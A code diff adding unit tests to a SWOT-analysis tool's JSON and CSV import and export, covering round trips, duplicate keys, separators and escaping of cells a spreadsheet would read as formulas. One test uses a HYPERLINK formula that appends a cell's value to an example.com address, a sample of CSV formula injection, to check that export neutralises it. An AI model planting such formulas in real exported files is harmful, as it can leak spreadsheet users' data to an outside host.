@@ -17,6 +17,7 @@
 #include <QJsonObject>
 #include <QRegularExpression>
 #include <QTemporaryDir>
+#include <algorithm>
 #include <functional>
 #include <gtest/gtest.h>
 
@@ -51,6 +52,19 @@ QStringList ReadableProjects() {
     return paths;
 }
 
+// Where two documents part, with what each holds there; empty when they are
+// the same.
+std::string FirstDifference(const QByteArray& written, const QByteArray& expected) {
+    const qsizetype common = std::min(written.size(), expected.size());
+    qsizetype at = 0;
+    while (at < common && written[at] == expected[at])
+        ++at;
+    if (at == common && written.size() == expected.size())
+        return {};
+    return "at byte " + std::to_string(at) + ": written «" + written.mid(at, 60).toStdString() +
+           "», expected «" + expected.mid(at, 60).toStdString() + "»";
+}
+
 // A factor as read from CSV: its type, name, mark and the plain text of its
 // comment.
 struct Factor {
@@ -68,18 +82,32 @@ void PrintTo(const Factor& factor, std::ostream* out) {
 
 } // namespace
 
-// A project file, as Merovan writes the project read from it, comes back
-// byte for byte through JSON; and the JSON through a project file.
+// A project comes back byte for byte through JSON: a shipped file as it is on
+// disk (starting from what Merovan writes, as this test once did, hid that
+// the first save made every "<BR>" a raw line break and every "\\uN" a raw
+// character), and the file Merovan writes of any project; the JSON comes
+// back through a project file.
 TEST(Interchange, JsonRoundTripsEveryProject) {
     const QStringList paths = ReadableProjects();
     ASSERT_GE(paths.size(), 12) << "the examples of both languages and the fixtures";
+    int shipped = 0;
     for (const QString& path : paths) {
+        SCOPED_TRACE(path.toStdString());
+        if (path.startsWith(MEROVAN_RESOURCES_DIR)) {
+            ++shipped;
+            const auto back = ReadProjectJson(ProjectJson(*ReadProject(path)));
+            EXPECT_EQ(FirstDifference(ProjectContent(*back),
+                                      ExtractEntry(path, "content.xml", MaxContentSize)),
+                      "");
+            EXPECT_TRUE(ProjectArchive(*back) == ReadAll(path));
+        }
         const QByteArray saved = ProjectArchive(*ReadProject(path));
         const QByteArray json = ProjectJson(*ReadProjectArchive(saved));
         const QByteArray again = ProjectArchive(*ReadProjectJson(json));
-        EXPECT_EQ(again, saved) << path.toStdString();
-        EXPECT_EQ(ProjectJson(*ReadProjectArchive(again)), json) << path.toStdString();
+        EXPECT_EQ(again, saved);
+        EXPECT_EQ(ProjectJson(*ReadProjectArchive(again)), json);
     }
+    EXPECT_EQ(shipped, 6) << "the examples and reference projects of both languages";
 }
 
 // What the editor holds in memory, before any saving, comes back exactly:
@@ -156,6 +184,16 @@ TEST(Interchange, JsonImportRefusesWhatAProjectCannotHoldNamingThePlace) {
          "conclusions[0].couplings[0][0]: no factor has this position."},
         {head + factor + R"("conclusions": [{"name": "C", "couplings": [[0, 1e10]]}]})",
          "conclusions[0].couplings[0][1]: a whole number is expected."},
+        {head + R"("title": "A",)" + "\n" + R"( "title": "B"})",
+         "title is given twice (line 2, column 2)."},
+        {head + R"("title": "A", "t\u0069tle": "B"})", "title is given twice"},
+        {head +
+             R"("factors": [{"type": "threat", "name": "A"}, {"type": "threat", "name": "A", "mark": 1, "mark": 3}]})",
+         "factors[1].mark is given twice"},
+        {head + factor + R"("factors": []})", "factors is given twice"},
+        {head + factor +
+             R"("conclusions": [{"name": "C", "couplings": []}, {"name": "D", "comment": {"text": "a", "text": "b"}}]})",
+         "conclusions[1].comment.text is given twice"},
     };
     for (const auto& c : cases) {
         const QString error = ErrorOf([&] { ReadProjectJson(c.json.toUtf8()); });
@@ -163,6 +201,36 @@ TEST(Interchange, JsonImportRefusesWhatAProjectCannotHoldNamingThePlace) {
             << c.json.toStdString() << "\n  gave: " << error.toStdString();
     }
     EXPECT_TRUE(ErrorOf([] { ReadProjectJson("{\n\"format\" 1}"); }).contains("(line 2, column "));
+}
+
+// A coupling that does not join an internal factor to an external one is
+// kept, as project files keep it, and named with its place in a remark.
+TEST(Interchange, JsonImportNamesCouplingsOfUnsuitableTypes) {
+    const QByteArray json = R"({"format": "merovan-project", "version": 1,
+        "factors": [{"type": "strength", "name": "S"}, {"type": "opportunity", "name": "O"},
+                    {"type": "weakness", "name": "W"}, {"type": "threat", "name": "T"}],
+        "conclusions": [{"name": "A", "couplings": [[0, 1], [2, 3]]},
+                        {"name": "B", "couplings": [[0, 3], [1, 0], [0, 2], [3, 1]]}]})";
+    QStringList remarks;
+    const auto project = ReadProjectJson(json, &remarks);
+    const QString remark = ": the coupling does not join an internal factor (strength or weakness) "
+                           "to an external one (opportunity or threat); it was kept, but no view "
+                           "or report shows it.";
+    EXPECT_EQ(remarks, (QStringList{"conclusions[1].couplings[1]" + remark,
+                                    "conclusions[1].couplings[2]" + remark,
+                                    "conclusions[1].couplings[3]" + remark}));
+    ASSERT_EQ(project->Guidelines.size(), 2u);
+    EXPECT_EQ(project->Guidelines[1]->Couples,
+              (std::vector<TTOWSCouple>{{0, 3}, {1, 0}, {0, 2}, {3, 1}}));
+
+    QTemporaryDir folder;
+    QFile file(folder.filePath("hand-made.json"));
+    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
+    file.write(json);
+    file.close();
+    QStringList imported;
+    ImportProject(file.fileName(), &imported);
+    EXPECT_EQ(imported, remarks);
 }
 
 // Factors only damaged files hold have no place in the data forms.
@@ -258,6 +326,33 @@ TEST(Interchange, CsvInputsAsSpreadsheetsWriteThem) {
         {"no name", "S,A\nS,  \n", {}, "Line 2: the factor has no name."},
         {"a quote left open", "S,A\nO,\"B\n\nT,C\n", {}, "Line 2: a quoted field is not closed."},
         {"a header alone", "type,name\r\n", {}, "The file holds no factor."},
+        {"Excel's line naming the separator",
+         "sep=;\r\ntype;name;mark\r\nS;Bread, butter;3\r\n",
+         {{stStrength, "Bread, butter", 3, ""}},
+         nullptr},
+        {"Excel's line naming the separator, without a header",
+         "\xEF\xBB\xBFsep=,\nS,A;B\n",
+         {{stStrength, "A;B", 2, ""}},
+         nullptr},
+        {"an unquoted comma in a comment",
+         "type,name,mark,comment\nS,A,1,good\nW,B,2,slow, and dear\n",
+         {},
+         "Line 3: the row has 5 fields, but there are only 4 columns; a field holding the "
+         "separator must be quoted."},
+        {"an unquoted comma in a name, without a header",
+         "S,Bread, butter,3,fresh\n",
+         {},
+         "Line 1: the row has 5 fields, but there are only 4 columns"},
+        {"empty fields beyond the columns",
+         "type,name\nS,A,,\n",
+         {{stStrength, "A", 2, ""}},
+         nullptr},
+        {"apostrophes that keep formulas text",
+         "S,'=1+1,3,'-5%\nO,''@x\nT,'plain\n",
+         {{stStrength, "=1+1", 3, "-5%"},
+          {stOpportunity, "'@x", 2, ""},
+          {stThreat, "'plain", 2, ""}},
+         nullptr},
     };
     for (const auto& c : cases) {
         std::unique_ptr<TProject> project;
@@ -286,9 +381,10 @@ TEST(Interchange, CsvExportReadsBack) {
     const auto bakery =
         ReadProject(MEROVAN_RESOURCES_DIR "/templates/Family bakery - online sales.swot");
     const QByteArray csv = FactorsCsv(*bakery);
-    EXPECT_TRUE(csv.startsWith("type,name,mark,comment\r\nstrength,Recipes handed down over three "
-                               "generations,3,\"Our sourdough and brioche are known across the "
-                               "district.\nCustomers come"));
+    EXPECT_TRUE(csv.startsWith(
+        "\xEF\xBB\xBFtype,name,mark,comment\r\nstrength,Recipes handed down over three "
+        "generations,3,\"Our sourdough and brioche are known across the "
+        "district.\nCustomers come"));
     const auto back = ReadProjectCsv(csv);
     ASSERT_EQ(back->Items.size(), bakery->Items.size());
     for (std::size_t i = 0; i < back->Items.size(); ++i) {
@@ -312,6 +408,47 @@ TEST(Interchange, CsvExportQuotesWhatNeedsIt) {
     for (std::size_t i = 0; i < back->Items.size(); ++i) {
         EXPECT_EQ(back->Items[i]->Name, project->Items[i]->Name);
         EXPECT_EQ(CommentText(back->Items[i]->Comments), CommentText(project->Items[i]->Comments));
+    }
+}
+
+// A cell a spreadsheet would take for a formula or a link opens with an
+// apostrophe, which keeps it text; reading takes it off, so names and
+// comments come back exactly.
+TEST(Interchange, CsvCellsThatLookLikeFormulasStayText) {
+    const char* const names[] = {R"x(=HYPERLINK("http://example.com/?"&A1,"Prices"))x",
+                                 "+33 1 23 45 67 89",
+                                 "-10% margin",
+                                 "@home",
+                                 "'=quoted",
+                                 "plain",
+                                 "it's",
+                                 "a=b"};
+    TProject project;
+    for (const char* name : names) {
+        auto item = std::make_unique<TTOWSItem>();
+        item->Name = QString::fromUtf8(name);
+        item->SwotType = stStrength;
+        item->Mark = mkHigh;
+        item->Comments = PlainTextToLines(QString::fromUtf8(name) + "\nsecond line");
+        project.Items.push_back(std::move(item));
+    }
+    const QByteArray csv = FactorsCsv(project);
+    EXPECT_TRUE(csv.startsWith("\xEF\xBB\xBFtype,name,mark,comment\r\n"));
+    const QList<QByteArray> rows = csv.split('\n');
+    EXPECT_TRUE(rows[1].startsWith(
+        R"x(strength,"'=HYPERLINK(""http://example.com/?""&A1,""Prices"")",3,"'=HYPERLINK()x"))
+        << rows[1].toStdString();
+    EXPECT_TRUE(csv.contains("strength,'+33 1 23 45 67 89,3,\"'+33"));
+    EXPECT_TRUE(csv.contains("strength,'-10% margin,3,\"'-10%"));
+    EXPECT_TRUE(csv.contains("strength,'@home,3,\"'@home"));
+    EXPECT_TRUE(csv.contains("strength,''=quoted,3,"));
+    EXPECT_TRUE(csv.contains("strength,plain,3,"));
+    EXPECT_TRUE(csv.contains("strength,it's,3,"));
+    const auto back = ReadProjectCsv(csv);
+    ASSERT_EQ(back->Items.size(), project.Items.size());
+    for (std::size_t i = 0; i < back->Items.size(); ++i) {
+        EXPECT_EQ(back->Items[i]->Name, project.Items[i]->Name);
+        EXPECT_EQ(back->Items[i]->Comments, project.Items[i]->Comments);
     }
 }
 
